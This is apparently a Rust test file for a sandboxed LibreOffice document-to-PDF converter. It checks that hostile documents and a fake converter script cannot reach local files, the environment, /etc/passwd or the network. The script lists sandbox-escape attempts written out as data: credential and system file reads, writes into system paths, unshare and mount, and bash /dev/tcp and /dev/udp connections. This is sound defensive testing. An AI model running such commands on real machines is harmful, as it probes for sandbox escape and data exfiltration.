//! A document gets nothing into its PDF that it did not bring along: no local file, no environment, no network.

use std::fs::{self, Permissions};
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;

use super::{Impostor, Pdf, WORD, convert, converter, work_folder, write_documents};

/// In the text file that the documents refer to.
const CANARY: &str = "Kanarienvogel4711";

/// The colour of the picture that the documents refer to; no other has it.
const COLOUR: [u8; 3] = [201, 87, 33];

/// Linked pictures, sections, frames, templates and tables, fields that include, formulas that fetch, external
/// workbooks, DDE; of a file that every user of this machine may read, /proc, /etc and a web server.
#[test]
fn hostile_documents_reach_nothing() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let url = format!("http://{}/x", listener.local_addr().unwrap());
    let folder = work_folder();
    let canary = folder.path().join("canary.txt");
    fs::write(&canary, CANARY).unwrap();
    let documents = folder.path().join("documents");
    fs::create_dir(&documents).unwrap();
    write_documents(&["hostile", documents.to_str().unwrap(), canary.to_str().unwrap(), &url]);
    for file in [canary.clone(), folder.path().join("canary.txt.png")] {
        fs::set_permissions(file, Permissions::from_mode(0o644)).unwrap();
    }
    for name in
        ["links.docx", "sections.odt", "sections.fodt", "formulas.xlsx", "formulas.fods", "fields.rtf"]
    {
        let mut converted = convert(&converter(), &documents.join(name)).unwrap();
        let pdf = Pdf::of(&mut converted);
        let text = pdf.text();
        assert!(text.contains(WORD), "{name}: {text}");
        let plain = String::from_utf8_lossy(&pdf.uncompressed()).into_owned();
        for word in [CANARY, "CARGO_MANIFEST", "PATH=", "root:x:", "HOME="] {
            assert!(!text.contains(word) && !plain.contains(word), "{name}: {word} is in the PDF");
        }
        let is_canary = |pixel: &[u8]| pixel.iter().zip(COLOUR).all(|(found, own)| found.abs_diff(own) < 8);
        assert!(!pdf.pixels().windows(3).any(is_canary), "{name}: the linked picture is in the PDF");
    }
    let error = listener.accept().unwrap_err();
    assert_eq!(error.kind(), std::io::ErrorKind::WouldBlock, "a document fetched something");
}

/// A LibreOffice that a document has taken over sees no more than that.
#[test]
fn sandbox_shows_nothing_of_the_machine() {
    let folder = work_folder();
    fs::write(folder.path().join("canary.txt"), CANARY).unwrap();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let data = folder.path().display();
    let attempts = [
        format!("cat {data}/canary.txt"),
        "for place in /proc/self /proc/1 /proc/sys /sys/kernel /etc/passwd /etc/hostname /home /root /var/lib /run \
         /usr/local/bin /dev/sda /dev/mem /dev/kvm /dev/fuse /dev/fd/3; do [ -e $place ] && exit; done; false"
            .to_owned(),
        "env | grep -vE '^(PATH|HOME|TMPDIR|OSL_SOCKET_PATH|LC_ALL|TZ|PWD|OLDPWD|SHLVL|_|LD_LIBRARY_PATH)='".to_owned(),
        "ls -d /tmp/tresor* | grep -v \"^${0%/program/*}$\"".to_owned(),
        "touch /x".to_owned(),
        "touch /usr/bin/x /usr/share/x /etc/x".to_owned(),
        "touch /dev/x".to_owned(),
        "touch /dev/shm/x".to_owned(),
        "unshare --user true".to_owned(),
        "mount -t tmpfs x /tmp".to_owned(),
        "echo x >\"$0\"".to_owned(),
        "[ $(id -u) = 0 ]".to_owned(),
        "[ \"$(hostname)\" != converter ]".to_owned(),
        format!("bash -c 'echo x >/dev/tcp/127.0.0.1/{port}'"),
        "bash -c 'echo x >/dev/udp/192.0.2.1/53'".to_owned(),
    ];
    let numbered = attempts.iter().enumerate();
    let tries: Vec<_> = numbered.map(|(at, attempt)| format!("( {attempt} ) && exit {}", at + 1)).collect();
    let script = tries.join("\n");
    let impostor = Impostor::new(&format!("{script}\nexit 0"));
    // Nothing succeeded, and nothing was made.
    let error = impostor.convert().unwrap_err();
    assert_eq!(
        error.code(),
        "document-unreadable",
        "{error}: the attempt of that number succeeded\n{script}"
    );
    let error = listener.accept().unwrap_err();
    assert_eq!(error.kind(), std::io::ErrorKind::WouldBlock);
}
